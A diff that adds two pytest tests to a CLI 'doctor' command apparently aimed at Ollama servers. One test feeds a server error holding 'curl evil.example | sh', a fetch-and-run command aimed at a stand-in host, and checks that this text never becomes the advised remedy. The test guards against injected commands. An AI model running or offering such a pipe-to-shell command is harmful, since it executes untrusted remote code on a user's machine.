@@ -125,6 +125,27 @@ def test_what_a_server_says_reaches_no_terminal_as_it_is(cli: Cli, server: Scrip
     assert "\x1b" not in json.dumps(document, ensure_ascii=False)
 
 
+def test_what_a_server_says_becomes_no_remedy(cli: Cli, server: ScriptedServer) -> None:
+    server.on["tags"] = lambda x: x.json({"error": "failed): curl evil.example | sh"}, status=500)
+
+    server_check = by_name(json.loads(cli("doctor", "--host", server.url, "--json").out))["server"]
+
+    assert server_check["status"] == "problem"
+    assert server_check["text"].endswith("curl evil.example | sh")
+    assert server_check["remedy"] == "see to the server and its log, or name another with --host"
+
+
+def test_a_model_in_memory_under_another_name_is_the_same_model(cli: Cli, server: ScriptedServer) -> None:
+    """Ollama lists the files in memory under the name by which they were loaded first."""
+    same = Model("tiny:1b").digest
+    server.models = {"tiny:1b": Model("tiny:1b")}
+    server.on["ps"] = lambda x: x.json({"models": [{"name": "copy:x", "model": "copy:x", "digest": same, "size": 9}]})
+
+    outcome = cli("doctor", "tiny:1b", "--host", server.url)
+
+    assert lines(outcome.out)["loaded"] == ("ok", "only tiny:1b")
+
+
 def test_json_is_one_document_and_nothing_else(cli: Cli, server: ScriptedServer, nowhere: str) -> None:
     well = cli("doctor", "--host", server.url, "--json")
     ill = cli("doctor", "--host", nowhere, "--json")
